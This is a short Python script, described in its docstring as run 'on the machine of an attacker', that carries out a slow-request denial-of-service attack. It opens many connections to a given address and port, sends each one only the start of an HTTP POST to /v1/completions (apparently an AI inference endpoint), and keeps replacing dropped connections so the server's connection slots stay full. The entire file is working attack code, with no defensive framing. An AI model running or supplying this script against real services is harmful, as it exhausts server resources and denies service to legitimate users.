# ruff: noqa: INP001 - a script outside any package
"""Begin requests and end none: `half_requests.py ADDRESS PORT ATTEMPTS`, on the machine of an attacker.

Each round makes ATTEMPTS attempts in place of the connections that are gone, and prints how many are open. It ends when
the standard input ends.
"""

from __future__ import annotations

import contextlib
import select
import socket
import sys

HALF = b"POST /v1/completions HTTP/1.1\r\nHost: local"
address, port, attempts = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
opened: list[socket.socket] = []
while not select.select([sys.stdin], [], [], 0)[0]:
    gone = select.poll()
    for connection in opened:
        gone.register(connection, select.POLLIN | select.POLLHUP)
    closed = {file for file, _ in gone.poll(0)}
    opened = [connection for connection in opened if connection.fileno() not in closed]
    for _ in range(attempts - len(opened)):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((address, port), 1)
            connection.sendall(HALF)
            opened.append(connection)
    print(len(opened), flush=True)  # noqa: T201 - its result
